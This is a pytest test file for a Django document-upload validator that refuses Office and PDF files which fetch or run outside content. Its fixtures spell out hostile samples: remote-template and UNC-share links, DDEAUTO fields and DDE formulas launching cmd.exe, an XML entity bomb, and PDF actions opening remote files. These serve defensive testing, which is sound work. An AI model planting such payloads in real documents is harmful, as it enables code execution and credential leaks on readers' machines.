"""Office and PDF files that reach outside themselves when opened are refused: a linked
template, linked objects, pictures or workbooks, DDE and include fields, DDE formulas,
and PDF actions that open another file. Hyperlinks and ordinary fields are accepted."""

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation

from cangxanh.documents import validation
from cangxanh.documents.validation import check_upload

from . import files

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
SS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def rels(*relationships: tuple[str, str, str]) -> bytes:
    """A relationships part: (type, target, target mode) each."""
    items = "".join(
        f'<Relationship Id="rId{i}" Type="{R}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for i, (kind, target, mode) in enumerate(relationships, 10)
    )
    return RELS.format(items).encode()


def document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W}>'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()


def complex_field(*instructions: str, result: str = "1") -> str:
    """A paragraph with a complex field whose instruction is cut into these runs."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instructions
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def sheet(formula: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {SS}>'
        f'<sheetData><row r="1"><c r="A1"><f>{formula}</f><v>0</v></c></row></sheetData>'
        "</worksheet>"
    ).encode()


@pytest.fixture
def parsed(monkeypatch) -> list[str]:
    """The names of the parts the scanner parses, in order."""
    names: list[str] = []
    original = validation._parse_part

    def spy(archive, info, scan):
        names.append(info.filename)
        return original(archive, info, scan)

    monkeypatch.setattr(validation, "_parse_part", spy)
    return names


def refused_code(name: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        check_upload(name, data)
    return caught.value.code


# Refused: Word and Excel ----------------------------------------------------------------


def test_a_remote_template_is_refused_with_its_message():
    # Word's attached template fetched from a server when the document opens (Follina).
    settings_xml = (
        f'<w:settings {W} xmlns:r="{R}"><w:attachedTemplate r:id="rId10"/></w:settings>'
    ).encode()
    data = files.office(
        "docx",
        parts={
            "word/settings.xml": settings_xml,
            "word/_rels/settings.xml.rels": rels(
                ("attachedTemplate", "http://198.51.100.7/t.dotm", "External")
            ),
        },
    )
    with pytest.raises(ValidationError) as caught:
        check_upload("bao-cao.docx", data)
    assert caught.value.code == "external_content"
    with translation.override("en"):
        assert "outside itself" in caught.value.messages[0]


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("oleObject", "file:///C:/Users/a/bang.xlsx"),
        # A picture linked to a share: opening the file sends the reader's NTLM hash.
        ("image", "\\\\198.51.100.7\\share\\logo.png"),
        ("frame", "http://198.51.100.7/frame.html"),
        ("subDocument", "http://198.51.100.7/chapter.docx"),
    ],
)
def test_external_relationships_are_refused(kind, target):
    data = files.office(
        "docx", parts={"word/_rels/document.xml.rels": rels((kind, target, "External"))}
    )
    assert refused_code("bao-cao.docx", data) == "external_content"


def test_an_address_where_a_part_name_belongs_is_refused():
    # No TargetMode (Internal by default), but the target is a UNC path all the same.
    data = files.office(
        "docx",
        parts={"word/_rels/document.xml.rels": rels(("image", "//198.51.100.7/a.png", ""))},
    )
    assert refused_code("bao-cao.docx", data) == "external_content"


def test_an_external_workbook_link_is_refused():
    link = f'<externalLink {SS}><externalBook r:id="rId1" xmlns:r="{R}"/></externalLink>'
    data = files.office("xlsx", parts={"xl/externalLinks/externalLink1.xml": link.encode()})
    assert refused_code("bang.xlsx", data) == "external_content"


def test_an_external_workbook_path_in_the_relationships_is_refused():
    data = files.office(
        "xlsx",
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": rels(
                ("externalLinkPath", "file:///\\\\198.51.100.7\\s\\book.xlsx", "External")
            )
        },
    )
    assert refused_code("bang.xlsx", data) == "external_content"


@pytest.mark.parametrize(
    "field",
    [
        complex_field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '),
        # The name cut across runs, in other letters' case, as Word still reads it.
        complex_field("  dd", "eAuto c:\\\\windows\\\\system32\\\\cmd.exe", ' "/k calc"'),
        complex_field('DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"'),
        # A simple field.
        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://198.51.100.7/a.png\" \\d'>"
        "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
        complex_field('INCLUDEPICTURE\\d "\\\\\\\\198.51.100.7\\\\a.png"'),
        complex_field('  INCLUDETEXT "http://198.51.100.7/a.docx"'),
        complex_field('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Sheet1!R1C1" \\a \\f 4'),
        # A field whose name would be another field's result.
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + complex_field('QUOTE "DDEAUTO"')[5:-6]
        + '<w:r><w:instrText> cmd "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
    ],
)
def test_fields_that_fetch_or_run_outside_content_are_refused(field):
    data = files.office("docx", parts={"word/document.xml": document(field)})
    assert refused_code("bao-cao.docx", data) == "external_content"


def test_a_field_in_a_footer_is_refused_too():
    footer = (
        f'<w:ftr {W}><w:p><w:fldSimple w:instr="INCLUDETEXT &quot;C:\\\\a.docx&quot;"/>'
        "</w:p></w:ftr>"
    ).encode()
    data = files.office("docx", parts={"word/footer1.xml": footer})
    assert refused_code("bao-cao.docx", data) == "external_content"


@pytest.mark.parametrize(
    "formula",
    [
        "cmd|' /c calc'!A0",
        "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
        "SUM(1,cmd|'/c calc'!A0)",
        "'cmd'|'/c calc'!A0",
        # The bar as a character reference.
        "cmd&#124;' /c calc'!A0",
    ],
)
def test_a_dde_formula_is_refused(formula):
    data = files.office("xlsx", parts={"xl/worksheets/sheet1.xml": sheet(formula)})
    assert refused_code("bang.xlsx", data) == "external_content"


def test_a_dde_formula_in_a_defined_name_is_refused():
    workbook = files.WORKBOOK_XML.replace(
        "</sheets>",
        "</sheets><definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName>"
        "</definedNames>",
    )
    data = files.office("xlsx", parts={"xl/workbook.xml": workbook.encode()})
    assert refused_code("bang.xlsx", data) == "external_content"


def test_a_part_that_declares_a_dtd_is_damaged():
    bomb = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        f'<Relationships xmlns="x"><Relationship Type="{R}/image" Target="&b;"/></Relationships>'
    )
    data = files.office("docx", parts={"word/_rels/document.xml.rels": bomb.encode()})
    assert refused_code("bao-cao.docx", data) == "damaged"


# Refused: PDF ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /GoToR /F (\\\\\\\\198.51.100.7\\\\s\\\\a.pdf) /D [0 /Fit] >>",
        b"<< /S /GoTo#52 /F (http://198.51.100.7/a.pdf) /D [0 /Fit] >>",
        b"<< /S /GoToE /T << /R /C /N (a.pdf) >> >>",
        b"<< /S /ImportData /F (\\\\\\\\198.51.100.7\\\\s\\\\data.fdf) >>",
    ],
)
def test_a_pdf_action_that_opens_another_file_is_refused(action):
    data = files.page_pdf(b"BT ET", catalog_extra=b"/OpenAction 6 0 R ", more=(action,))
    assert refused_code("bao-cao.pdf", data) == "pdf_launch"


# Accepted -------------------------------------------------------------------------------


def test_external_hyperlinks_are_accepted(parsed):
    body = (
        f'<w:p xmlns:r="{R}"><w:hyperlink r:id="rId10"><w:r><w:t>Cổng thông tin</w:t></w:r>'
        "</w:hyperlink></w:p>"
    )
    docx = files.office(
        "docx",
        parts={
            "word/document.xml": document(body),
            "word/_rels/document.xml.rels": rels(
                ("hyperlink", "https://haiphong.gov.vn/", "External")
            ),
        },
    )
    xlsx = files.office(
        "xlsx",
        parts={
            "xl/worksheets/_rels/sheet1.xml.rels": rels(
                ("hyperlink", "https://haiphong.gov.vn/", "External")
            ),
            "xl/_rels/workbook.xml.rels": rels(("worksheet", "worksheets/sheet1.xml", "")),
        },
    )
    assert check_upload("bao-cao.docx", docx).kind == "docx"
    assert check_upload("bang.xlsx", xlsx).kind == "xlsx"
    assert "word/_rels/document.xml.rels" in parsed
    assert "xl/worksheets/_rels/sheet1.xml.rels" in parsed


@pytest.mark.parametrize(
    "formula",
    [
        'CONCATENATE("a|b","c")',
        '"x"&amp;"|"&amp;A2',
        "'Đoàn|vào'!A1+1",  # a quoted sheet name may hold a bar
        "SUM(Table1[[#This Row],[a'|b]])",
    ],
)
def test_a_bar_inside_a_string_or_a_name_is_accepted(formula, parsed):
    data = files.office("xlsx", parts={"xl/worksheets/sheet1.xml": sheet(formula)})
    assert check_upload("bang.xlsx", data).kind == "xlsx"
    assert "xl/worksheets/sheet1.xml" in parsed  # read, not skipped


def test_ordinary_fields_are_accepted(parsed):
    body = (
        complex_field(" PAGE ")
        + complex_field(' HYPERLINK "https://haiphong.gov.vn/" ')
        + complex_field(' DATE \\@ "d/M/yyyy" ')
        + "<w:p><w:fldSimple w:instr=' NUMPAGES \\* MERGEFORMAT '/></w:p>"
    )
    footer = f'<w:ftr {W}><w:p><w:fldSimple w:instr="PAGE"/></w:p></w:ftr>'.encode()
    data = files.office(
        "docx", parts={"word/document.xml": document(body), "word/footer1.xml": footer}
    )
    assert check_upload("bao-cao.docx", data).kind == "docx"
    assert {"word/document.xml", "word/footer1.xml"} <= set(parsed)


def test_a_pdf_with_ordinary_links_is_accepted_and_only_they():
    def with_action(action: bytes) -> bytes:
        return files.page_pdf(b"BT ET", catalog_extra=b"/OpenAction 6 0 R ", more=(action,))

    link = b"<< /S /URI /URI (https://haiphong.gov.vn/) >>"
    assert check_upload("bao-cao.pdf", with_action(link)).kind == "pdf"
    remote = b"<< /S /GoToR /F (https://haiphong.gov.vn/a.pdf) /D [0 /Fit] >>"
    assert refused_code("bao-cao.pdf", with_action(remote)) == "pdf_launch"


def test_parts_without_fields_or_bars_are_not_parsed(parsed):
    check_upload("bao-cao.docx", files.office("docx"))
    check_upload("bang.xlsx", files.office("xlsx"))
    assert parsed == ["_rels/.rels", "_rels/.rels"]
